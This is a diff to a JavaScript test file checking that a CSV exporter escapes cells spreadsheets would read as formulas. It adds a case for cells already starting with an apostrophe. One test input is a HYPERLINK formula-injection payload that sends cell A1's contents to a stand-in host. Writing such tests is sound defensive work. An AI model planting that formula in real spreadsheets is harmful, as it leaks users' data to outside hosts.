@@ -8,7 +8,7 @@ test('cells are quoted where necessary, and the file says how it is encoded', ()
 
 test.each([
   ['=HYPERLINK("http://192.0.2.1/"&A1)', '"\'=HYPERLINK(""http://192.0.2.1/""&A1)"'],
-  ['+358 40', "'+358 40"], ['-cmd', "'-cmd"], ['@sum', "'@sum"], ['\tx', "'\tx"], ['-81', '-81'], ['+1.5', '+1.5'], ['-81,5', '"-81,5"'], ['a=b', 'a=b'],
+  ['+358 40', "'+358 40"], ['-cmd', "'-cmd"], ['@sum', "'@sum"], ['\tx', "'\tx"], ['-81', '-81'], ['+1.5', '+1.5'], ['-81,5', '"-81,5"'], ['a=b', 'a=b'], ["'=x", "''=x"],
 ])('%s is not taken for a formula', (cell, written) => {
   expect(toCsv([[cell]])).toBe(`\uFEFF${written}\r\n`)
 })
